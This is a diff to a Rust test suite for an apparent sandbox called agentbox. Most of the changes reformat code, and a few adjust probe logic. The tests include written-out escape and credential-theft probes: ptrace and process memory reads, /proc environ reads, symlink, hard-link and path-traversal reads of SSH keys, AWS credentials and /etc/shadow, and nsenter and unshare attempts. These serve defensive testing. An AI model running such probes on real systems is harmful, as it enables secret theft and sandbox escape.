@@ -91,9 +91,6 @@ fn boxcmd(f: &Fixture, extra: &[&str], cmd: &[&str]) -> Command {
 /// Spawn with stdin from /dev/null, collect output, kill after `secs`; returns the output and
 /// agentbox's host pid.
 fn spawn_wait(mut c: Command, secs: u64) -> (Output, u32) {
-    if c.get_program() != bin().as_os_str() {
-        // Host-side commands only.
-    }
     c.stdout(Stdio::piped()).stderr(Stdio::piped());
     let mut child = c.spawn().expect("spawn");
     collect(&mut child, secs)
@@ -240,7 +237,7 @@ def report(key, fn):
         r = "EXC-" + type(ex).__name__
     print(key + "=" + str(r), flush=True)
 def classify(data):
-    if any(m.encode() in data for m in LEAKS):
+    if any(m in data for m in LEAKS):
         return "LEAK"
     return "DATA" if data else "EMPTY"
 def rd(p):
@@ -259,7 +256,14 @@ A = sys.argv[1:]
 "#;
 
 fn py_script(body: &str) -> String {
-    let leaks: Vec<String> = LEAK_MARKERS.iter().map(|m| format!("'{m}'")).collect();
+    // Hex-encoded, so that the probe's own command line (visible in /proc) holds no marker.
+    let leaks: Vec<String> = LEAK_MARKERS
+        .iter()
+        .map(|m| {
+            let hex: String = m.bytes().map(|b| format!("{b:02x}")).collect();
+            format!("bytes.fromhex('{hex}')")
+        })
+        .collect();
     format!(
         "{}LEAKS = [{}]\n{PRELUDE}\n{body}\nprint('DONE=1', flush=True)\n",
         nr_table(),
@@ -343,7 +347,11 @@ fn expect_box(
             allowed,
         );
         want(
-            &format!("[{:?}/{}] {name} probe completed", f.owner, variant_name(extra)),
+            &format!(
+                "[{:?}/{}] {name} probe completed",
+                f.owner,
+                variant_name(extra)
+            ),
             &out,
             &v,
             "DONE",
@@ -381,8 +389,8 @@ impl Outside {
         let prog = c.get_program().to_string_lossy().into_owned();
         let base = prog.rsplit('/').next().unwrap_or(&prog).to_string();
         while Instant::now() < deadline {
-            let comm = std::fs::read_to_string(format!("/proc/{}/comm", child.id()))
-                .unwrap_or_default();
+            let comm =
+                std::fs::read_to_string(format!("/proc/{}/comm", child.id())).unwrap_or_default();
             if comm.trim() == base.chars().take(15).collect::<String>() {
                 break;
             }
@@ -474,7 +482,10 @@ fn fixture_outside_tmp(owner: As) -> Fixture {
 /// Both layouts: the shared fixture (everything under /tmp, which the box masks) and one with
 /// HOME and the workspace outside /tmp (only Landlock keeps HOME out).
 fn layouts(who: As) -> Vec<(&'static str, Fixture)> {
-    vec![("tmp", Fixture::new(who)), ("var", fixture_outside_tmp(who))]
+    vec![
+        ("tmp", Fixture::new(who)),
+        ("var", fixture_outside_tmp(who)),
+    ]
 }
 
 fn chown_to(p: &Path, who: As) {
@@ -540,7 +551,15 @@ fn ptrace_attach_outside_process() {
         let f = Fixture::new(who);
         if ptrace_possible_on_host() {
             let s = Outside::sleep(who);
-            expect_host(who, &f.ws, "ptrace attach", PTRACE_ATTACH, &[&s.pid()], "r", &["OK"]);
+            expect_host(
+                who,
+                &f.ws,
+                "ptrace attach",
+                PTRACE_ATTACH,
+                &[&s.pid()],
+                "r",
+                &["OK"],
+            );
         }
         let mut s = Outside::sleep(who);
         expect_box(
@@ -566,7 +585,15 @@ fn ptrace_seize_outside_process() {
         let f = Fixture::new(who);
         let s = Outside::sleep(who);
         if ptrace_possible_on_host() {
-            expect_host(who, &f.ws, "ptrace seize", PTRACE_SEIZE, &[&s.pid()], "r", &["OK"]);
+            expect_host(
+                who,
+                &f.ws,
+                "ptrace seize",
+                PTRACE_SEIZE,
+                &[&s.pid()],
+                "r",
+                &["OK"],
+            );
         }
         let s = Outside::sleep(who);
         expect_box(
@@ -592,7 +619,15 @@ fn process_vm_readv_outside_process() {
         let s = Outside::sleep(who);
         let addr = s.first_mapping();
         if ptrace_possible_on_host() {
-            expect_host(who, &f.ws, "process_vm_readv", VM_READV, &[&s.pid(), &addr], "r", &["OK"]);
+            expect_host(
+                who,
+                &f.ws,
+                "process_vm_readv",
+                VM_READV,
+                &[&s.pid(), &addr],
+                "r",
+                &["OK"],
+            );
         }
         expect_box(
             &f,
@@ -627,7 +662,20 @@ report('environ', environ)
 report('mem', lambda: open('/proc/%d/mem' % SUP, 'rb').read(1))
 report('root', lambda: os.listdir('/proc/%d/root/' % SUP))
 report('cwd', lambda: os.listdir('/proc/%d/cwd/' % SUP))
-report('fd', lambda: os.listdir('/proc/%d/fd/' % SUP))
+def fds():
+    for n in range(0, 64):
+        try:
+            os.close(os.open('/proc/%d/fd/%d' % (SUP, n), os.O_RDONLY | os.O_NONBLOCK))
+            return 'OPENED-%d' % n
+        except OSError as ex:
+            if ex.errno not in (errno.ENOENT,):
+                return en(ex.errno)
+    return 'ENOENT'
+report('fd', fds)
+try:
+    print('fd_list=' + ','.join(os.listdir('/proc/%d/fd/' % SUP)))
+except OSError as ex:
+    print('fd_list=' + en(ex.errno))
 report('kill0', lambda: sc('kill', SUP, 0))
 report('killkill', lambda: sc('kill', SUP, 9))
 "#;
@@ -656,7 +704,13 @@ fn supervisor_is_out_of_reach() {
                 want(&ctx, &out, &v, k, ptrace);
             }
             // process_vm_readv needs /proc/<pid>/maps first, so either layer answers.
-            want(&ctx, &out, &v, "vm_readv", &["EPERM", "ESRCH", "ENOENT", "EACCES"]);
+            want(
+                &ctx,
+                &out,
+                &v,
+                "vm_readv",
+                &["EPERM", "ESRCH", "ENOENT", "EACCES"],
+            );
             for k in ["environ", "mem", "root", "cwd", "fd"] {
                 want(&ctx, &out, &v, k, procfs);
             }
@@ -739,7 +793,11 @@ fn signals_to_outside_process_by_pid() {
         let mut s = Outside::sleep(who);
         let pid = s.pid();
         let out = sh_host(who, &f.ws, &format!("kill -0 {pid} && echo ok"));
-        check(stdout(&out).contains("ok"), "host control: kill -0 works", &out);
+        check(
+            stdout(&out).contains("ok"),
+            "host control: kill -0 works",
+            &out,
+        );
         for extra in [FULL, NO_NS, NO_SECCOMP] {
             let out = sh_box(
                 &f,
@@ -757,7 +815,14 @@ fn signals_to_outside_process_by_pid() {
         }
         // With a visible pid, Landlock's signal scope answers (EPERM), not a missing process.
         let body = "report('r', lambda: sc('kill', int(A[0]), 0))";
-        expect_box(&f, "kill(pid, 0)", body, &[&pid], "r", &[(FULL, &["ESRCH"]), (NO_NS, &["EPERM"])]);
+        expect_box(
+            &f,
+            "kill(pid, 0)",
+            body,
+            &[&pid],
+            "r",
+            &[(FULL, &["ESRCH"]), (NO_NS, &["EPERM"])],
+        );
         assert!(s.alive());
     }
 }
@@ -788,10 +853,21 @@ fn signals_to_process_group_and_everyone() {
             let ctx = format!("[{who:?}/{}] kill 0 / kill -1", variant_name(extra));
             // The box's shell is killed by its own `kill -KILL 0`; agentbox reports 137 as an
             // exit code, so the supervisor itself was not killed.
-            check(out.status.code() == Some(137), &format!("{ctx}: agentbox exit"), &out);
-            check(out.status.signal().is_none(), &format!("{ctx}: supervisor killed"), &out);
+            check(
+                out.status.code() == Some(137),
+                &format!("{ctx}: agentbox exit"),
+                &out,
+            );
+            check(
+                out.status.signal().is_none(),
+                &format!("{ctx}: supervisor killed"),
+                &out,
+            );
             std::thread::sleep(Duration::from_millis(20));
-            assert!(s.alive(), "{ctx}: the outside process in the same process group died");
+            assert!(
+                s.alive(),
+                "{ctx}: the outside process in the same process group died"
+            );
         }
     }
 }
@@ -820,7 +896,8 @@ report('direct_environ', lambda: rd('/proc/%s/environ' % A[0]))
         let f = Fixture::new(who);
         let mut c = Command::new("sleep");
         c.arg0("sleep-argv-secret-value").arg("30");
-        c.env_clear().env("OUTSIDE_SECRET", "outside-secret-value-123");
+        c.env_clear()
+            .env("OUTSIDE_SECRET", "outside-secret-value-123");
         let s = Outside::spawn(who, c);
         let (out, v) = py_host(who, &f.ws, body, &[&s.pid()]);
         want("host control", &out, &v, "direct_cmdline", &["LEAK"]);
@@ -833,7 +910,13 @@ report('direct_environ', lambda: rd('/proc/%s/environ' % A[0]))
         want(&ctx, &out, &v, "direct_cmdline", &["ENOENT"]);
         want(&ctx, &out, &v, "direct_environ", &["ENOENT"]);
         let (out, v) = py_box(&f, NO_NS, body, &[&s.pid()]);
-        want(&format!("{ctx} no-ns"), &out, &v, "direct_environ", &["EACCES", "EPERM"]);
+        want(
+            &format!("{ctx} no-ns"),
+            &out,
+            &v,
+            "direct_environ",
+            &["EACCES", "EPERM"],
+        );
     }
 }
 
@@ -851,7 +934,14 @@ report('r', lambda: sc('io_uring_setup', 4, params))
     for who in who() {
         let f = Fixture::new(who);
         expect_host(who, &f.ws, "io_uring_setup", body, &[], "r", &["OK"]);
-        expect_box(&f, "io_uring_setup", body, &[], "r", &[(FULL, &["EPERM"]), (NO_NS, &["EPERM"])]);
+        expect_box(
+            &f,
+            "io_uring_setup",
+            body,
+            &[],
+            "r",
+            &[(FULL, &["EPERM"]), (NO_NS, &["EPERM"])],
+        );
     }
 }
 
@@ -883,9 +973,17 @@ fn unshare_user_namespace_cli_denied() {
     for who in who() {
         let f = Fixture::new(who);
         let out = sh_host(who, &f.ws, "unshare -U -r id -u && echo made-userns");
-        check(stdout(&out).contains("made-userns"), "host control: unshare -U", &out);
+        check(
+            stdout(&out).contains("made-userns"),
+            "host control: unshare -U",
+            &out,
+        );
         for extra in [FULL, NO_NS] {
-            let out = sh_box(&f, extra, "unshare -U -r id -u && echo made-userns; unshare -U true; echo rc=$?");
+            let out = sh_box(
+                &f,
+                extra,
+                "unshare -U -r id -u && echo made-userns; unshare -U true; echo rc=$?",
+            );
             let ctx = format!("[{who:?}/{}] unshare -U", variant_name(extra));
             check(
                 !stdout(&out).contains("made-userns")
@@ -926,8 +1024,24 @@ report('unshare', do_unshare)
 "#;
     for who in who() {
         let f = Fixture::new(who);
-        expect_host(who, &f.ws, "clone(CLONE_NEWUSER)", body, &[], "clone", &["OK"]);
-        expect_host(who, &f.ws, "unshare(CLONE_NEWUSER)", body, &[], "unshare", &["OK"]);
+        expect_host(
+            who,
+            &f.ws,
+            "clone(CLONE_NEWUSER)",
+            body,
+            &[],
+            "clone",
+            &["OK"],
+        );
+        expect_host(
+            who,
+            &f.ws,
+            "unshare(CLONE_NEWUSER)",
+            body,
+            &[],
+            "unshare",
+            &["OK"],
+        );
         for extra in [FULL, NO_NS] {
             let (out, v) = py_box(&f, extra, body, &[]);
             let ctx = format!("[{who:?}/{}] userns syscalls", variant_name(extra));
@@ -957,9 +1071,25 @@ for k, fl in FLAGS.items():
 "#;
     for who in who() {
         let f = Fixture::new(who);
-        expect_host(who, &f.ws, "unshare(NEWUSER|NEWNS)", body, &[], "newns", &["OK"]);
+        expect_host(
+            who,
+            &f.ws,
+            "unshare(NEWUSER|NEWNS)",
+            body,
+            &[],
+            "newns",
+            &["OK"],
+        );
         let (out, v) = py_box(&f, FULL, body, &[]);
-        for k in ["newns", "newcgroup", "newuts", "newipc", "newpid", "newnet", "newtime"] {
+        for k in [
+            "newns",
+            "newcgroup",
+            "newuts",
+            "newipc",
+            "newpid",
+            "newnet",
+            "newtime",
+        ] {
             want(&format!("[{who:?}] unshare {k}"), &out, &v, k, &["EPERM"]);
         }
     }
@@ -989,7 +1119,13 @@ report('after', lambda: 'MOUNTED' if os.path.ismount('mnt-target') else 'NOT-MOU
             .stdin(Stdio::null());
         as_who(&mut c, who);
         let out = spawn_wait(c, 20).0;
-        want("host control (unshare -rm)", &out, &vals(&out), "tmpfs", &["OK"]);
+        want(
+            "host control (unshare -rm)",
+            &out,
+            &vals(&out),
+            "tmpfs",
+            &["OK"],
+        );
         for extra in [FULL, NO_NS] {
             let (out, v) = py_box(&f, extra, body, &[]);
             let ctx = format!("[{who:?}/{}] mount", variant_name(extra));
@@ -1009,8 +1145,16 @@ fn unshare_mount_namespace_bind_denied() {
         let f = Fixture::new(who);
         std::fs::write(f.ws.join(".env"), "dotenv-secret-value=1\n").unwrap();
         chown_to(&f.ws.join(".env"), who);
-        let out = sh_host(who, &f.ws, "unshare -rm sh -c 'mount --bind README.md README.md && echo bound'");
-        check(stdout(&out).contains("bound"), "host control: unshare -rm mount --bind", &out);
+        let out = sh_host(
+            who,
+            &f.ws,
+            "unshare -rm sh -c 'mount --bind README.md README.md && echo bound'",
+        );
+        check(
+            stdout(&out).contains("bound"),
+            "host control: unshare -rm mount --bind",
+            &out,
+        );
         let out = sh_box(
             &f,
             FULL,
@@ -1057,8 +1201,16 @@ report('pivot_root', lambda: sc('pivot_root', b'.', b'chroot-dir'))
         let f = Fixture::new(who);
         if who == As::Me && is_root() {
             // Only a privileged process can chroot on the host; do it in a throwaway child.
-            let out = sh_host(who, &f.ws, "mkdir -p chroot-dir && chroot / true && echo chroot-ok");
-            check(stdout(&out).contains("chroot-ok"), "host control: chroot", &out);
+            let out = sh_host(
+                who,
+                &f.ws,
+                "mkdir -p chroot-dir && chroot / true && echo chroot-ok",
+            );
+            check(
+                stdout(&out).contains("chroot-ok"),
+                "host control: chroot",
+                &out,
+            );
         }
         for extra in [FULL, NO_NS] {
             let (out, v) = py_box(&f, extra, body, &[]);
@@ -1080,23 +1232,34 @@ def join(path):
     return sc('setns', fd, 0)
 report('outside_mnt', lambda: join('/proc/%s/ns/mnt' % A[0]))
 report('outside_user', lambda: join('/proc/%s/ns/user' % A[0]))
-report('init_mnt', lambda: join('/proc/1/ns/mnt'))
+report('self_mnt', lambda: join('/proc/self/ns/mnt'))
 "#;
     for who in who() {
         let f = Fixture::new(who);
         let s = Outside::sleep(who);
         if who == As::Me && is_root() {
-            expect_host(who, &f.ws, "setns", body, &[&s.pid()], "outside_mnt", &["OK"]);
+            expect_host(
+                who,
+                &f.ws,
+                "setns",
+                body,
+                &[&s.pid()],
+                "outside_mnt",
+                &["OK"],
+            );
         }
         for extra in [FULL, NO_NS] {
             let (out, v) = py_box(&f, extra, body, &[&s.pid()]);
             let ctx = format!("[{who:?}/{}] setns", variant_name(extra));
-            let outside: &[&str] = if extra == FULL { &["ENOENT"] } else { &["EACCES", "EPERM"] };
+            let outside: &[&str] = if extra == FULL {
+                &["ENOENT"]
+            } else {
+                &["EACCES", "EPERM"]
+            };
             want(&ctx, &out, &v, "outside_mnt", outside);
             want(&ctx, &out, &v, "outside_user", outside);
-            if extra == FULL {
-                want(&ctx, &out, &v, "init_mnt", &["EPERM"]);
-            }
+            // Joining even its own namespace is refused: seccomp denies setns outright.
+            want(&ctx, &out, &v, "self_mnt", &["EPERM"]);
         }
     }
 }
@@ -1109,8 +1272,16 @@ fn nsenter_outside_process_denied() {
         let s = Outside::sleep(who);
         let pid = s.pid();
         if who == As::Me && is_root() {
-            let out = sh_host(who, &f.ws, &format!("nsenter -t {pid} -m -u -i -n -p true && echo entered"));
-            check(stdout(&out).contains("entered"), "host control: nsenter", &out);
+            let out = sh_host(
+                who,
+                &f.ws,
+                &format!("nsenter -t {pid} -m -u -i -n -p true && echo entered"),
+            );
+            check(
+                stdout(&out).contains("entered"),
+                "host control: nsenter",
+                &out,
+            );
         }
         for extra in [FULL, NO_NS] {
             let out = sh_box(
@@ -1144,7 +1315,12 @@ report('syslog', lambda: sc('syslog', 10, None, 0))
             // Root on the host gets past the permission check (to EFAULT/EINVAL or success).
             let (out, v) = py_host(who, &f.ws, body, &[]);
             for k in ["bpf", "perf", "uffd", "syslog"] {
-                assert_ne!(v.get(k).map(String::as_str), Some("EPERM"), "host control {k}: {}", stdout(&out));
+                assert_ne!(
+                    v.get(k).map(String::as_str),
+                    Some("EPERM"),
+                    "host control {k}: {}",
+                    stdout(&out)
+                );
             }
         }
         for extra in [FULL, NO_NS] {
@@ -1197,7 +1373,14 @@ report('r', lambda: sc('open_by_handle_at', mfd, ctypes.byref(fh), 0))
             expect_host(who, &f.ws, "open_by_handle_at", body, &[], "r", &["OK"]);
         }
         for extra in [FULL, NO_NS] {
-            expect_box(&f, "open_by_handle_at", body, &[], "r", &[(extra, &["EPERM"])]);
+            expect_box(
+                &f,
+                "open_by_handle_at",
+                body,
+                &[],
+                "r",
+                &[(extra, &["EPERM"])],
+            );
         }
     }
 }
@@ -1215,12 +1398,16 @@ print('after=' + ('OK' if r != -1 else en(ctypes.get_errno())), flush=True)
     for who in who() {
         let f = Fixture::new(who);
         let (out, v) = py_host(who, &f.ws, body, &[]);
-        check(v.contains_key("after"), "host control: x32 call returns", &out);
-        let script = py_script(body);
-        let out = sh_box(&f, FULL, &format!("{} -c \"$0\"; echo rc=$?", python()).replace("$0", &script.replace('"', "\\\"")));
-        let s = stdout(&out);
         check(
-            s.contains("before=1") && !s.contains("after=") && s.contains(&format!("rc={}", 128 + libc::SIGSYS)),
+            v.contains_key("after"),
+            "host control: x32 call returns",
+            &out,
+        );
+        let (out, v) = py_box(&f, FULL, body, &[]);
+        check(
+            v.contains_key("before")
+                && !v.contains_key("after")
+                && out.status.code() == Some(128 + libc::SIGSYS),
             &format!("[{who:?}] x32 syscall"),
             &out,
         );
@@ -1234,8 +1421,19 @@ fn af_vsock_denied() {
     for who in who() {
         let f = Fixture::new(who);
         let (_, hv) = py_host(who, &f.ws, body, &[]);
-        assert_ne!(hv.get("r").map(String::as_str), Some("EPERM"), "host control: vsock");
-        expect_box(&f, "AF_VSOCK", body, &[], "r", &[(FULL, &["EPERM"]), (NO_NS, &["EPERM"])]);
+        assert_ne!(
+            hv.get("r").map(String::as_str),
+            Some("EPERM"),
+            "host control: vsock"
+        );
+        expect_box(
+            &f,
+            "AF_VSOCK",
+            body,
+            &[],
+            "r",
+            &[(FULL, &["EPERM"]), (NO_NS, &["EPERM"])],
+        );
     }
 }
 
@@ -1248,7 +1446,14 @@ fn af_packet_denied() {
         if who == As::Me && is_root() {
             expect_host(who, &f.ws, "AF_PACKET", body, &[], "r", &["OK"]);
         }
-        expect_box(&f, "AF_PACKET", body, &[], "r", &[(FULL, &["EPERM"]), (NO_NS, &["EPERM"])]);
+        expect_box(
+            &f,
+            "AF_PACKET",
+            body,
+            &[],
+            "r",
+            &[(FULL, &["EPERM"]), (NO_NS, &["EPERM"])],
+        );
     }
 }
 
@@ -1289,10 +1494,18 @@ fn setuid_binary_gives_nothing() {
     std::os::unix::fs::chown(&suid, Some(0), Some(0)).unwrap();
     std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
     let out = sh_host(As::User, &f.ws, "./suid-id -u");
-    check(stdout(&out).trim() == "0", "host control: setuid id gives euid 0", &out);
+    check(
+        stdout(&out).trim() == "0",
+        "host control: setuid id gives euid 0",
+        &out,
+    );
     let uid = uid_of(As::User).to_string();
     for extra in [FULL, NO_NS] {
-        let out = sh_box(&f, extra, "./suid-id -u; grep -E '^(NoNewPrivs|CapEff)' /proc/self/status");
+        let out = sh_box(
+            &f,
+            extra,
+            "./suid-id -u; grep -E '^(NoNewPrivs|CapEff)' /proc/self/status",
+        );
         let s = stdout(&out);
         check(
             s.lines().next() == Some(uid.as_str())
@@ -1434,8 +1647,23 @@ fn unix_socket_in_run_unreachable() {
     let p = path.to_str().unwrap();
     for who in who() {
         let f = Fixture::new(who);
-        expect_host(who, &f.ws, "connect /run socket", UNIX_CONNECT, &[p], "r", &["LEAK"]);
-        expect_box(&f, "connect /run socket", UNIX_CONNECT, &[p], "r", &[(FULL, &["ENOENT"])]);
+        expect_host(
+            who,
+            &f.ws,
+            "connect /run socket",
+            UNIX_CONNECT,
+            &[p],
+            "r",
+            &["LEAK"],
+        );
+        expect_box(
+            &f,
+            "connect /run socket",
+            UNIX_CONNECT,
+            &[p],
+            "r",
+            &[(FULL, &["ENOENT"])],
+        );
     }
 }
 
@@ -1448,8 +1676,23 @@ fn unix_socket_in_tmp_unreachable() {
     let p = path.to_str().unwrap();
     for who in who() {
         let f = Fixture::new(who);
-        expect_host(who, &f.ws, "connect /tmp socket", UNIX_CONNECT, &[p], "r", &["LEAK"]);
-        expect_box(&f, "connect /tmp socket", UNIX_CONNECT, &[p], "r", &[(FULL, &["ENOENT"])]);
+        expect_host(
+            who,
+            &f.ws,
+            "connect /tmp socket",
+            UNIX_CONNECT,
+            &[p],
+            "r",
+            &["LEAK"],
+        );
+        expect_box(
+            &f,
+            "connect /tmp socket",
+            UNIX_CONNECT,
+            &[p],
+            "r",
+            &[(FULL, &["ENOENT"])],
+        );
     }
 }
 
@@ -1462,7 +1705,15 @@ fn abstract_unix_socket_unreachable() {
     let at = format!("@{name}");
     for who in who() {
         let f = Fixture::new(who);
-        expect_host(who, &f.ws, "connect abstract", UNIX_CONNECT, &[&at], "r", &["LEAK"]);
+        expect_host(
+            who,
+            &f.ws,
+            "connect abstract",
+            UNIX_CONNECT,
+            &[&at],
+            "r",
+            &["LEAK"],
+        );
         expect_box(
             &f,
             "connect abstract socket",
@@ -1499,7 +1750,15 @@ report('tcp_out', lambda: tcp('192.0.2.1', 80))
     let p = port.to_string();
     for who in who() {
         let f = Fixture::new(who);
-        expect_host(who, &f.ws, "tcp loopback", body, &[&p], "loopback", &["LEAK"]);
+        expect_host(
+            who,
+            &f.ws,
+            "tcp loopback",
+            body,
+            &[&p],
+            "loopback",
+            &["LEAK"],
+        );
         let (out, v) = py_box(&f, FULL, body, &[&p]);
         let ctx = format!("[{who:?}] network");
         want(&ctx, &out, &v, "loopback", &["ECONNREFUSED"]);
@@ -1544,11 +1803,14 @@ fn leak_fds(c: &mut Command, fds: Vec<i32>) {
 // bypass every path rule).
 #[test]
 fn inherited_descriptors_give_nothing() {
-    for (layout, f) in layouts(As::Me).into_iter().chain(if who().contains(&As::User) {
-        layouts(As::User)
-    } else {
-        vec![]
-    }) {
+    for (layout, f) in layouts(As::Me)
+        .into_iter()
+        .chain(if who().contains(&As::User) {
+            layouts(As::User)
+        } else {
+            vec![]
+        })
+    {
         let who = f.owner;
         let run = |in_box: bool| -> Output {
             let (r, _w) = pipe_with(b"pipe-secret-value\n");
@@ -1561,7 +1823,10 @@ fn inherited_descriptors_give_nothing() {
                 boxcmd(&f, FULL, &["sh", "-c", &script])
             } else {
                 let mut c = Command::new("sh");
-                c.args(["-c", &script]).current_dir(&f.ws).env_clear().env("PATH", PATH);
+                c.args(["-c", &script])
+                    .current_dir(&f.ws)
+                    .env_clear()
+                    .env("PATH", PATH);
                 as_who(&mut c, who);
                 c
             };
@@ -1576,7 +1841,8 @@ fn inherited_descriptors_give_nothing() {
         };
         let out = run(false);
         check(
-            stdout(&out).contains("pipe-secret-value") && stdout(&out).contains("CREDENTIAL-FILE-CONTENT"),
+            stdout(&out).contains("pipe-secret-value")
+                && stdout(&out).contains("CREDENTIAL-FILE-CONTENT"),
             &format!("[{who:?}/{layout}] host control: leaked fds work"),
             &out,
         );
@@ -1584,7 +1850,10 @@ fn inherited_descriptors_give_nothing() {
         assert_no_secret(&out);
         let s = stdout(&out);
         check(
-            s.contains("end") && !s.contains("pipe-secret-value") && !s.contains("CREDENTIAL") && !s.contains(".ssh"),
+            s.contains("end")
+                && !s.contains("pipe-secret-value")
+                && !s.contains("CREDENTIAL")
+                && !s.contains(".ssh"),
             &format!("[{who:?}/{layout}] leaked descriptors"),
             &out,
         );
@@ -1600,7 +1869,15 @@ const READ_PATH: &str = "report('r', lambda: rd(A[0]))";
 /// Run the read probe for `path` on the host (must leak) and in the box (must not).
 fn read_blocked(f: &Fixture, layout: &str, name: &str, path: &str, host_path: Option<&str>) {
     if let Some(hp) = host_path {
-        expect_host(f.owner, &f.ws, &format!("{layout}: {name}"), READ_PATH, &[hp], "r", &["LEAK"]);
+        expect_host(
+            f.owner,
+            &f.ws,
+            &format!("{layout}: {name}"),
+            READ_PATH,
+            &[hp],
+            "r",
+            &["LEAK"],
+        );
     }
     let (out, v) = py_box(f, FULL, READ_PATH, &[path]);
     let ctx = format!("[{:?}/{layout}] {name} ({path})", f.owner);
@@ -1618,7 +1895,11 @@ fn home_credentials_outside_tmp_unreadable() {
             read_blocked(&f, "var", file, p, Some(p));
         }
         let out = sh_box(&f, FULL, "ls -a \"$HOME\" \"$HOME/.ssh\"; echo end");
-        check(!stdout(&out).contains("id_ed25519"), &format!("[{who:?}] list HOME"), &out);
+        check(
+            !stdout(&out).contains("id_ed25519"),
+            &format!("[{who:?}] list HOME"),
+            &out,
+        );
     }
 }
 
@@ -1630,7 +1911,13 @@ fn symlink_planted_outside_to_credential() {
             let link = f.ws.join("innocent.txt");
             std::os::unix::fs::symlink(f.home.join(".ssh/id_ed25519"), &link).unwrap();
             let _ = std::os::unix::fs::lchown(&link, Some(uid_of(who)), None);
-            read_blocked(&f, layout, "planted symlink", "innocent.txt", Some("innocent.txt"));
+            read_blocked(
+                &f,
+                layout,
+                "planted symlink",
+                "innocent.txt",
+                Some("innocent.txt"),
+            );
         }
     }
 }
@@ -1675,10 +1962,24 @@ report('read_shadow', lambda: 'LEAK' if b'root:' in open('shadow-hardlink', 'rb'
             // Control: on the host, the same links work (same filesystem).
             let ctl = tempfile::tempdir_in(f.dir.path()).unwrap();
             chown_to(ctl.path(), who);
-            expect_host(who, ctl.path(), "hard link", body, &[key], "read_key", &["LEAK"]);
+            expect_host(
+                who,
+                ctl.path(),
+                "hard link",
+                body,
+                &[key],
+                "read_key",
+                &["LEAK"],
+            );
             let (out, v) = py_box(&f, FULL, body, &[key]);
             let ctx = format!("[{who:?}/{layout}] hard link");
-            want(&ctx, &out, &v, "link_key", &["ENOENT", "EACCES", "EXDEV", "EPERM"]);
+            want(
+                &ctx,
+                &out,
+                &v,
+                "link_key",
+                &["ENOENT", "EACCES", "EXDEV", "EPERM"],
+            );
             want(&ctx, &out, &v, "read_key", &["ENOENT"]);
             want(&ctx, &out, &v, "link_shadow", &["EXDEV", "EACCES", "EPERM"]);
             want(&ctx, &out, &v, "read_shadow", &["ENOENT"]);
@@ -1695,7 +1996,13 @@ fn proc_self_cwd_dotdot_to_credential() {
             // ws = <dir>/work/repo, home = <dir>/home
             let p = "/proc/self/cwd/../../home/.ssh/id_ed25519";
             read_blocked(&f, layout, "/proc/self/cwd/..", p, Some(p));
-            read_blocked(&f, layout, "cwd ../..", "../../home/.aws/credentials", Some("../../home/.aws/credentials"));
+            read_blocked(
+                &f,
+                layout,
+                "cwd ../..",
+                "../../home/.aws/credentials",
+                Some("../../home/.aws/credentials"),
+            );
         }
     }
 }
@@ -1709,7 +2016,9 @@ fn proc_1_root_to_credential() {
             let p = format!("/proc/1/root{}", f.home.join(".ssh/id_ed25519").display());
             let own = format!("/proc/self/root{}", f.home.join(".kube/config").display());
             // On the host /proc/1/root needs ptrace access to init (root only).
-            read_blocked(&f, layout, "/proc/1/root", &p, (who == As::Me && is_root()).then_some(p.as_str()));
+            // No host control for /proc/1/root: the host's init may be out of reach even for
+            // root (it is here); /proc/self/root is the control for the path form.
+            read_blocked(&f, layout, "/proc/1/root", &p, None);
             read_blocked(&f, layout, "/proc/self/root", &own, Some(&own));
         }
     }
@@ -1750,7 +2059,11 @@ for p in ('.env', './.env', '.git/../.env', os.getcwd() + '/.env', '/proc/self/c
         want(&ctx, &out, &v, "leaks", &["none"]);
         for (k, val) in &v {
             if k.starts_with("env:") {
-                check(val == "EACCES" || val == "EMPTY", &format!("{ctx}: {k}={val}"), &out);
+                check(
+                    val == "EACCES" || val == "EMPTY",
+                    &format!("{ctx}: {k}={val}"),
+                    &out,
+                );
             }
         }
     }
@@ -1786,7 +2099,13 @@ for d in A:
         for extra in [FULL, NO_NS] {
             let (out, v) = py_box(&f, extra, body, &args);
             for d in &args {
-                want(&format!("[{who:?}/{}] open {d}", variant_name(extra)), &out, &v, d, &["EACCES", "EPERM"]);
+                want(
+                    &format!("[{who:?}/{}] open {d}", variant_name(extra)),
+                    &out,
+                    &v,
+                    d,
+                    &["EACCES", "EPERM"],
+                );
             }
         }
     }
@@ -1811,7 +2130,10 @@ fn host_devices_unopenable() {
         "/dev/hwrng",
         "/dev/btrfs-control",
     ];
-    let devs: Vec<&str> = candidates.into_iter().filter(|d| Path::new(d).exists()).collect();
+    let devs: Vec<&str> = candidates
+        .into_iter()
+        .filter(|d| Path::new(d).exists())
+        .collect();
     let body = r#"
 for d in A:
     report('r:' + d, lambda d=d: os.close(os.open(d, os.O_RDONLY | os.O_NONBLOCK)))
@@ -1820,7 +2142,15 @@ for d in A:
     for who in who() {
         let f = Fixture::new(who);
         if who == As::Me && is_root() && devs.contains(&"/dev/kmsg") {
-            expect_host(who, &f.ws, "open /dev/kmsg", body, &["/dev/kmsg"], "r:/dev/kmsg", &["OK"]);
+            expect_host(
+                who,
+                &f.ws,
+                "open /dev/kmsg",
+                body,
+                &["/dev/kmsg"],
+                "r:/dev/kmsg",
+                &["OK"],
+            );
         }
         for extra in [FULL, NO_NS] {
             let (out, v) = py_box(&f, extra, body, &devs);
@@ -1867,10 +2197,21 @@ report('self_attr', lambda: os.close(os.open('/proc/self/attr/current', os.O_WRO
             if v.contains_key("sysrq") {
                 want(&ctx, &out, &v, "sysrq", &["EACCES", "EPERM"]);
             }
-            want(&ctx, &out, &v, "self_attr", &["EACCES", "EPERM", "EINVAL", "ENOENT"]);
+            want(
+                &ctx,
+                &out,
+                &v,
+                "self_attr",
+                &["EACCES", "EPERM", "EINVAL", "ENOENT"],
+            );
         }
     }
-    assert_eq!(std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap().trim(), hostname);
+    assert_eq!(
+        std::fs::read_to_string("/proc/sys/kernel/hostname")
+            .unwrap()
+            .trim(),
+        hostname
+    );
 }
 
 // Writes under /sys (the current THP setting written back, so a leak changes nothing).
@@ -1938,7 +2279,15 @@ fn file_left_in_tmp_invisible() {
     let ps = p.to_str().unwrap();
     for who in who() {
         let f = Fixture::new(who);
-        expect_host(who, &f.ws, "/tmp left file", READ_PATH, &[ps], "r", &["LEAK"]);
+        expect_host(
+            who,
+            &f.ws,
+            "/tmp left file",
+            READ_PATH,
+            &[ps],
+            "r",
+            &["LEAK"],
+        );
         expect_box(
             &f,
             "/tmp left file",
